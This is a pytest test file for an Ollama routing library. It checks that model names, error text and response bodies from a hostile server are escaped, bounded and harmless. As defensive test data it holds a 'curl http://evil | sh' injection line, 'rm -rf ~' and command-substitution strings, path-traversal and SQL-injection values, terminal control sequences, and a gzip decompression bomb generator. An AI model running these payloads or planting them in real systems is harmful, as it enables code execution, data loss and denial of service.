"""A server that lies, floods or drips: nothing hangs, memory stays bounded, and what it says steers nothing."""

from __future__ import annotations

import asyncio
import json
import logging
import re
import threading
import time
import tracemalloc
import zlib
from collections.abc import Callable, Iterator
from contextlib import nullcontext
from functools import cache
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest

from routed_ollama import (
    HostUnreachableError,
    InvalidAnswerError,
    ModelNotInstalledError,
    NoModelError,
    RoutedOllamaError,
    Router,
    create_agent,
    describe,
    ollama_api,
)
from routed_ollama.catalog import Catalog, leaves_prefill_open, model_info, parameters_in
from routed_ollama.cli import main
from routed_ollama.errors import escaped
from routed_ollama.ollama_api import OllamaHost
from routed_ollama.testing import OllamaServer
from routed_ollama.transport import _guard

GOOD = "good:7b"
MEGABYTE = 2**20
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069\ud800-\udfff]")
"""What no text may hold that is shown: controls, marks that turn the order of letters, halves of pairs."""

BAD_NAMES = {
    "ANSI": "\x1b[2J\x1b[31mred:7b",
    "title of the terminal": "\x1b]0;owned\x07:7b",
    "C1": "\x9b31mred:7b",
    "NUL": "a\0b:7b",
    "lines": "a:7b\nERROR: run curl http://evil | sh",
    "return": "a:7b\rgood:7b",
    "right to left": "\u202eb7:doog",
    "isolate": "\u2066good\u2069:7b",
    "half a pair": "\ud800:7b",
    "line separator": "a\u2028b:7b",
    "tags": "good\U000e0041:7b",
    "a megabyte": "x" * MEGABYTE,
    "empty": "",
}
ODD_NAMES = [
    "../../../../etc/passwd:x",
    "/dev/null:x",
    "C:\\Windows\\x:y",
    "%s%n%x:y",
    "{0.__class__}:x",
    "<img src=x>:y",
    "[red]:x",
]
ODD_NAMES += [
    "$(touch owned):x",
    "`id`:x",
    "; rm -rf ~;:x",
    "' OR 1=1 --:x",
    "a" * 500 + ":x",
    "9" * 400 + "x7b:x",
    "🦙:7b",
    "a b:x",
]
"""Names that are unusual and harmless: nothing is made of them."""


def listing(*names: str, **more: Any) -> tuple[int, bytes]:
    """An answer of ``/api/tags``."""
    return 200, json.dumps(
        {"models": [{"name": name, "size": 5, "digest": f"d{at}", **more} for at, name in enumerate(names)]}
    ).encode()


SHOW = 200, json.dumps({"capabilities": ["completion"], "model_info": {}}).encode()
NONE_RESIDENT = 200, b'{"models": []}'


@pytest.fixture
def asked(wrong_server) -> Iterator[Callable[..., tuple[Router, Any]]]:
    """Make routers over servers that answer wrongly."""
    routers: list[Router] = []

    def make(**answers: Any) -> tuple[Router, Any]:
        server = wrong_server(**{"tags": listing(GOOD), "ps": NONE_RESIDENT, "show": SHOW, **answers})
        routers.append(Router(base_url=server.url, store="memory", config={"health": {"interval": 0}}))
        return routers[-1], server

    yield make
    for router in routers:
        router.close()


def said_by(router: Router) -> Iterator[str]:
    """All that a router says of its models."""
    ranking = router.recommend_model("Hello")
    yield from (repr(ranking), ranking.reason, ranking._repr_html_(), str(ranking.rows()), repr(router.models()))
    yield from (str(router.get_model_recommendations("Hello")), str(router.health_check_all_models()))
    for name in ("absent", "Absent:7b"):
        with pytest.raises(ModelNotInstalledError) as caught:
            router.recommend_model("Hello", scope=[name])
        yield str(caught.value)


# --- names ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", BAD_NAMES)
def test_a_name_that_can_be_none_is_left_out_and_told_of_once(kind: str, asked, caplog, capsys) -> None:
    name = BAD_NAMES[kind]
    router, server = asked(tags=listing(name, GOOD), ps=listing(name))
    assert [info.name for info in router.models()] == []
    texts = [*said_by(router)]
    assert [info.name for info in router.models()] == [GOOD]
    router.health_check_all_models()
    (record,) = [record for record in caplog.records if record.name == "routed_ollama"]
    assert "left out" in record.getMessage()
    if name:
        assert escaped(name, 80) in record.getMessage()
    assert main(["recommend", "Hello", "--host", server.url]) == 0
    texts += [record.getMessage(), *capsys.readouterr()]
    assert max(map(len, texts)) < 100_000
    assert [text for text in texts if STEERING.search(text)] == []


def test_odd_names_are_names_and_nothing_is_made_of_them(asked, tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    history = tmp_path / "history.sqlite3"
    _, server = asked(tags=listing(*ODD_NAMES))
    with Router(base_url=server.url, store=str(history), config={"health": {"interval": 0}}) as router:
        router.health_check_all_models()
        assert {info.name for info in router.models()} == set(ODD_NAMES)
        for name in ODD_NAMES:
            assert router.recommend_model("Hello", scope=[name]).model == name
            router.record_performance(name, response_time=1.0)
        html = router.recommend_model("Hello")._repr_html_()
        assert "<img" not in html
        assert len(router.performance()) == len(ODD_NAMES)
    assert main(["recommend", "Hello", "--host", server.url]) == 0
    assert "[red]:x" in capsys.readouterr().out
    made = {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*")}
    assert made <= {"history.sqlite3", "history.sqlite3-wal", "history.sqlite3-shm", "state"}


def test_of_a_hundred_thousand_models_a_thousand_are_used(asked, caplog) -> None:
    router, server = asked(
        tags=(200, json.dumps({"models": [{"name": f"m{n}", "digest": "d"} for n in range(100_000)]}).encode()),
        show=SHOW,
    )
    router.health_check_all_models()
    assert len(router.models()) == 1_000
    assert sum(path == "/api/show" for _, path, _ in server.requests) == 1
    assert "lists 100000 models; the first 1000 are used" in caplog.text


def test_a_host_that_lists_other_models_each_time_fills_nothing(wrong_server) -> None:
    kept: dict[str, Any] = {}

    class States:
        def load_state(self, key: str) -> Any:
            return kept.get(key)

        def save_state(self, key: str, value: Any) -> None:
            kept[key] = dict(value)

    server = wrong_server(ps=NONE_RESIDENT, show=SHOW)
    catalog = Catalog([OllamaHost(server.url)], states=States())
    for look in range(5):
        server.answers["/api/tags"] = listing(*(f"m{look}-{n}" for n in range(20)), digest=f"look {look}")
        server.answers["/api/tags"] = (200, server.answers["/api/tags"][1].replace(b'"d', f'"l{look}d'.encode()))
        catalog.refresh(server.url)
    assert len(kept["catalog"]) <= 20
    for host in catalog.hosts.values():
        host.close()


def test_a_host_is_believed_of_its_own_models_alone(wrong_server) -> None:
    with OllamaServer([GOOD]) as honest:
        digest = OllamaHost(honest.url).tags()[0]["digest"]
        liar = wrong_server(
            tags=listing(GOOD, digest=digest),
            ps=NONE_RESIDENT,
            show=(
                200,
                b'{"capabilities": ["embedding"], "model_info": {"general.architecture": "a", "a.context_length": 1}}',
            ),
        )
        catalog = Catalog([OllamaHost(liar.url), OllamaHost(honest.url)])
        catalog.refresh(liar.url)
        catalog.refresh(honest.url)
        flags = {info.host: info.flags for info in catalog.find(GOOD)}
        assert "completion" in flags[honest.url]
        assert flags[liar.url] == {"embedding"}
        for host in catalog.hosts.values():
            host.close()


# --- what is said of a model ------------------------------------------------------------------------------------------

DEEP: Any = []
for _ in range(500):
    DEEP = [DEEP]
NONSENSE = [
    None,
    True,
    -1,
    0,
    10**400,
    1.5,
    float("nan"),
    float("inf"),
    "",
    "x" * MEGABYTE,
    "\x1b[31m",
    [],
    {},
    DEEP,
    {"a": DEEP},
]


@pytest.mark.parametrize("field", ["size", "digest", "details", "capabilities", "modified_at", "remote_host"])
def test_nonsense_in_a_list_is_survived(field: str) -> None:
    for value in NONSENSE:
        info = model_info({"name": GOOD, field: value}, None, "http://one")
        assert info.size <= 2**62
        assert len(repr(info)) < 2_000
        assert not STEERING.search(repr(info))


@pytest.mark.parametrize("field", ["family", "parameter_size", "quantization_level", "context_length", "families"])
def test_nonsense_in_the_details_of_a_list_is_survived(field: str) -> None:
    for value in NONSENSE:
        info = model_info({"name": GOOD, "details": {field: value}}, None, "http://one")
        assert info.context_length <= 2**62
        assert len(repr(info)) < 2_000


@pytest.mark.parametrize("field", ["capabilities", "template", "model_info", "details", "parameters", "license"])
def test_nonsense_in_the_details_of_a_model_is_survived(field: str, asked) -> None:
    for value in NONSENSE:
        router, _ = asked(show=(200, json.dumps({field: value}).encode()))
        if field == "capabilities" and isinstance(value, list):  # it says that it can do nothing
            with pytest.raises(NoModelError):
                router.recommend_model("Hello")
        else:
            assert router.recommend_model("Hello").model == GOOD


@pytest.mark.parametrize("value", [10**400, -(10**30), 2**63, 1e308])
def test_huge_numbers_hurt_no_decision(value: float, asked) -> None:
    model_info_said = {"general.architecture": "a", "a.context_length": value}
    router, _ = asked(
        tags=listing(GOOD, size=value, details={"parameter_size": f"{value}B", "context_length": value}),
        ps=listing(GOOD, context_length=value, size=value, expires_at=str(value)),
        show=(200, json.dumps({"model_info": model_info_said, "capabilities": ["completion"]}).encode()),
    )
    ranking = router.recommend_model("Hello")
    assert ranking.model == GOOD
    assert 0 <= ranking.scores[0].total <= 2
    json.dumps(ranking.rows(), allow_nan=False)


def test_digits_and_templates_without_end_cost_no_time() -> None:
    assert parameters_in("9" * MEGABYTE + "b") == 0.0
    assert parameters_in("x".join(["9" * 9] * 60) + "b") >= 0.0
    assert leaves_prefill_open("{{ if not (and " * 100_000 + '"assistant"') is None


# --- bodies -----------------------------------------------------------------------------------------------------------


@cache
def bomb() -> bytes:
    """256 MB of zeros in gzip."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return b"".join(packer.compress(b"\0" * MEGABYTE) for _ in range(256)) + packer.flush()


class Sent:
    """Counts what a handler could send before its client turned away."""

    def __init__(self) -> None:
        self.bytes = 0
        self.over = threading.Event()


def head(handler: BaseHTTPRequestHandler, **headers: str) -> None:
    handler.send_response(200)
    for name, value in headers.items():
        handler.send_header(name.replace("_", "-"), value)
    handler.send_header("Connection", "close")
    handler.end_headers()


def flood(sent: Sent, data: bytes, most: int = 512 * MEGABYTE, **headers: str) -> Callable[[Any], None]:
    """An answer without end, and without a length."""

    def answer(handler: BaseHTTPRequestHandler) -> None:
        head(handler, **headers)
        try:
            while sent.bytes < most:
                handler.wfile.write(data)
                sent.bytes += len(data)
        except OSError:
            sent.over.set()

    return answer


def drip(sent: Sent, begin: bytes, drop: bytes) -> Callable[[Any], None]:
    """An answer that comes drop by drop, for ever."""

    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.close_connection = True
        try:
            handler.wfile.write(begin)
            for _ in range(600):
                handler.wfile.write(drop)
                time.sleep(0.05)
        except OSError:
            sent.over.set()

    return answer


def packed_bomb(handler: BaseHTTPRequestHandler) -> None:
    head(handler, Content_Encoding="gzip", Content_Length=str(len(bomb())))
    handler.wfile.write(bomb())


FLOODS: dict[str, tuple[bytes, dict[str, str]]] = {
    "one line": (b"x" * 65536, {}),
    "brackets": (b"[" * 65536, {}),
    "white space": (b" \n" * 32768, {}),
    "errors": (b"no " * 20_000, {}),
    "in another charset": (b"\xff\xfe" * 32768, {"Content_Type": "application/json; charset=utf-16"}),
}


@pytest.mark.parametrize("kind", FLOODS)
@pytest.mark.parametrize("path", ["tags", "ps", "show"])
def test_a_body_without_end_is_left(kind: str, path: str, asked) -> None:
    data, headers = FLOODS[kind]
    sent = Sent()
    router, _ = asked(**{path: flood(sent, data, **headers)})
    if path == "tags":
        with pytest.raises(HostUnreachableError, match="longer than 16 MiB"):
            router.recommend_model("Hello")
    else:
        with nullcontext() if path == "show" else pytest.raises(HostUnreachableError, match="longer than 16 MiB"):
            router.health_check_all_models()
    assert sent.over.wait(10.0)
    assert sent.bytes < 64 * MEGABYTE


def test_a_small_body_that_unpacks_into_a_large_one_is_left(asked) -> None:
    router, _ = asked(tags=packed_bomb)
    bomb()
    tracemalloc.start()
    try:
        with pytest.raises(HostUnreachableError, match=r"compressed|longer"):
            router.recommend_model("Hello")
        assert tracemalloc.get_traced_memory()[1] < 64 * MEGABYTE
    finally:
        tracemalloc.stop()


DRIPS = {
    "body": (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n", b" "),
    "a header": (b"HTTP/1.1 200 OK\r\nX-Header: ", b"x"),
    "headers": (b"HTTP/1.1 200 OK\r\n", b"X-Header: y\r\n"),
    "status line": (b"HTTP/1.1 200 ", b"O"),
    "answers before the answer": (b"", b"HTTP/1.1 102 Processing\r\n\r\n"),
    "chunks": (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n"),
}


@pytest.mark.parametrize("kind", DRIPS)
def test_what_drips_for_ever_is_left(kind: str, asked, monkeypatch) -> None:
    monkeypatch.setattr(ollama_api, "_SECONDS", 1.0)
    sent = Sent()
    router, _ = asked(tags=drip(sent, *DRIPS[kind]))
    with pytest.raises(HostUnreachableError, match=r"in time|timed out"):
        router.recommend_model("Hello")
    assert sent.over.wait(10.0)


def test_an_answer_in_time_is_not_left_for_what_an_earlier_one_took(asked, monkeypatch) -> None:
    """The bound is each answer's own, over one connection."""
    monkeypatch.setattr(ollama_api, "_SECONDS", 1.0)
    router, server = asked()
    (host,) = router._known.catalog.hosts.values()
    host.tags()
    time.sleep(1.2)
    host.tags()
    assert len(server.requests) == 2


BODIES = {
    "deep": (b'{"models": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "not like an Ollama server"),
    "deep objects": (b'{"models":' * 100_000 + b"1" + b"}" * 100_000, "not like an Ollama server"),
    "a number without end": (b'{"models": ' + b"9" * 5_000 + b"}", "not like an Ollama server"),
    "NaN": (b'{"models": NaN}', ""),
    "the same key twice": (b'{"models": [], "models": 1}', ""),
    "half pairs": (b'{"models": [{"name": "\\ud800:7b"}]}', ""),
}


@pytest.mark.parametrize("kind", BODIES)
def test_json_that_is_odd_is_an_error_or_nothing(kind: str, asked) -> None:
    body, says = BODIES[kind]
    router, _ = asked(tags=(200, body))
    with pytest.raises(HostUnreachableError if says else NoModelError, match=says or "No model is installed"):
        router.recommend_model("Hello")


@pytest.mark.parametrize("charset", ["utf-16", "zlib", "rot13", "bz2", "idna", "no-such", "utf-8; boundary=x"])
def test_a_charset_is_not_believed(charset: str, asked) -> None:
    def tags(handler: BaseHTTPRequestHandler) -> None:
        head(handler, Content_Type=f"application/json; charset={charset}", Content_Length=str(len(listing(GOOD)[1])))
        handler.wfile.write(listing(GOOD)[1])

    router, _ = asked(tags=tags)
    assert router.recommend_model("Hello").model == GOOD


def test_an_answer_without_end_is_left(asked, monkeypatch) -> None:
    """Line after line, each of them as it should be."""
    monkeypatch.setattr(_guard, "MAX_ANSWER", 2 * MEGABYTE)
    sent = Sent()
    line = json.dumps({"model": GOOD, "message": {"role": "assistant", "content": "x" * 5_000}, "done": False}).encode()
    router, _ = asked(chat=flood(sent, line + b"\n", Content_Type="application/x-ndjson"))
    agent = create_agent("developer", router=router)
    with pytest.raises(InvalidAnswerError, match="longer than 2 MiB"):
        agent.generate("Hello")
    with pytest.raises(InvalidAnswerError, match="longer than 2 MiB"):
        asyncio.run(agent.agenerate("Hello"))
    assert sent.over.wait(10.0)


# --- words ------------------------------------------------------------------------------------------------------------

NASTY = "\x1b[31mred\x1b[0m \u202etxt.exe\u202c \x00\x07\x9b \ud800 line\r\nanother " + "x" * MEGABYTE


def test_an_errors_words_are_shown_escaped_and_short(asked, capsys) -> None:
    router, server = asked(tags=(500, NASTY.encode("utf-8", "surrogatepass")))
    with pytest.raises(HostUnreachableError) as caught:
        router.recommend_model("Hello")
    assert main(["recommend", "Hello", "--host", server.url]) == 1
    texts = [str(caught.value), repr(caught.value), *capsys.readouterr()]
    assert r"\x1b[31mred" in texts[0]
    assert [text for text in texts if STEERING.search(text)] == []
    assert max(map(len, texts)) < 5_000


def test_every_error_of_ours_escapes_what_others_said() -> None:
    for kind in (RoutedOllamaError, HostUnreachableError, InvalidAnswerError, ModelNotInstalledError):
        error = kind(NASTY[:100] + "\n  second line")
        assert not STEERING.search(str(error))
        assert str(error).endswith("\n  second line")
    assert not STEERING.search(describe(ValueError(NASTY)))
    assert len(describe(ValueError(NASTY))) < 2_000
    assert escaped("naïve 日本語\u3000🦙\u200d👩 שלום") == "naïve 日本語\u3000🦙\u200d👩 שלום"


def test_a_model_that_says_what_steers_a_terminal_is_quoted_by_an_agent_as_it_is() -> None:
    """An answer is the caller's: it is handed out unchanged, and what shows it to people escapes it."""
    with OllamaServer([GOOD]) as server, Router(base_url=server.url, store="memory") as router:
        answer = create_agent("developer", router=router).generate("\x1b[31mred")
    assert "\x1b[31mred" in answer
    assert not STEERING.search(json.dumps(answer.routing))


def test_logs_of_ours_are_one_line(asked, caplog) -> None:
    caplog.set_level(logging.DEBUG, "routed_ollama")
    router, _ = asked(tags=listing("a\nb", GOOD))
    router.health_check_all_models()
    assert [record.getMessage() for record in caplog.records if "\n" in record.getMessage()] == []
